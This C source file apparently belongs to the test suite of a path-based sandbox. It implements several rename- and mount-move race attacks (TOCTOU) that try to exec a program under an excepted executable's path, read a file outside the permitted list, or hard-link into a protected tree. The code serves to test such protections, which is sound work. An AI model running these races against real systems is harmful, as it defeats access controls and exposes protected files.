/* SPDX-License-Identifier: Apache-2.0
 *
 * Names that never were: of a file, or a directory, that is renamed all the time, a walk may see the directory where it
 * was and the name that it has now. The machine has two processors for this: one renames, one insists.
 */
#include "attack.h"
#include <signal.h>
#include <time.h>

#define ROUNDS	30000
#define SECONDS 6

static void stay_on(int processor)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(processor, &set);
	sched_setaffinity(0, sizeof(set), &set);
}

static int move(const char *from, const char *to)
{
	return mount(from, to, NULL, MS_MOVE, NULL);
}

/* On the other processor, once a program has had the time to start: there and back again. */
static pid_t always(int (*change)(const char *from, const char *to), const char *one, const char *other)
{
	pid_t pid = fork();

	stay_on(pid == 0);
	if (pid == 0)
		usleep(300000);
	while (pid == 0) {
		change(one, other);
		change(other, one);
	}
	return pid;
}

/* Is there a further round? The first is 0. */
static int goes_on(int round)
{
	static time_t end;

	if (!round)
		end = time(NULL) + SECONDS;
	return round < ROUNDS && time(NULL) < end;
}

int insist(const char *path)
{
	int fd = -1;

	for (int round = 0; fd < 0 && goes_on(round); round++)
		fd = open(path, O_RDONLY);
	return fd;
}

/* By the program that is open there. */
static void insist_by(int fd)
{
	char *words[] = {"other", "--insist", DOWN "stormed/in", NULL};

	syscall(SYS_execveat, fd, "", words, environ, AT_EMPTY_PATH);
}

/* One's own program in the directory of the excepted executable, or under its name elsewhere. */
void attack_torn_exe(void)
{
	int fd;

	bring_program(DOWN "other");
	fd = open(DOWN "other", O_PATH);
	always(rename, DOWN "other", "room/keeper");
	insist_by(fd);
}

/* The same with a file that is not in the list of what one may read. */
void attack_torn_list(void)
{
	char path[32];
	int fd = open(DOWN "other", O_WRONLY | O_CREAT, 0644);

	write(fd, secret_in_memory, strlen(secret_in_memory));
	snprintf(path, sizeof(path), "/proc/self/fd/%d", open(DOWN "other", O_PATH));
	always(rename, DOWN "other", "room/page");
	setuid(1002);
	take(insist(path));
	take_path("kept_for");
}

/* A file of a protected tree may be linked within it: here to a directory that was beside it, and is named so. */
void attack_torn_link(void)
{
	int at, round = 0;
	pid_t pid;

	mkdir(DOWN "other", 0755);
	mkdir(DOWN "other/in", 0755);
	at = open(DOWN "other/in", O_PATH);
	pid = always(rename, DOWN "other", "room/stormed");
	while (goes_on(round++) && linkat(AT_FDCWD, DOWN "stormed/in", at, "linked", 0) != 0)
		;
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	take(openat(at, "linked", O_RDONLY));
	link("vault/in", "linked");
}

/* One's own program on a file system that is mounted below a directory that is renamed so. */
void attack_torn_place(void)
{
	int fd;

	mkdir(LONG "/other", 0755);
	mkdir(LONG "/other/" LONG, 0755);
	mount("place", LONG "/other/" LONG, "tmpfs", 0, NULL);
	bring_program(LONG "/other/" LONG "/keeper");
	fd = open(LONG "/other/" LONG "/keeper", O_PATH);
	always(rename, LONG "/other", "room/" LONG);
	insist_by(fd);
}

/* The same on one that is moved, with the excepted path below its root: mounted nowhere for a moment, it is no root. */
void attack_torn_mount(void)
{
	int fd;

	mkdir("room/one", 0755);
	mkdir("room/other", 0755);
	mount("moved", "room/one", "tmpfs", 0, NULL);
	mkdir("room/one/arena", 0755);
	mkdir("room/one/arena/of", 0755);
	mkdir("room/one/arena/of/" LONG, 0755);
	mkdir("room/one/arena/of/" LONG "/" LONG, 0755);
	mkdir("room/one/arena/of/" DOWN, 0755);
	bring_program("room/one/arena/of/" DOWN "keeper");
	fd = open("room/one/arena/of/" DOWN "keeper", O_PATH);
	always(move, "room/one", "room/other");
	insist_by(fd);
}
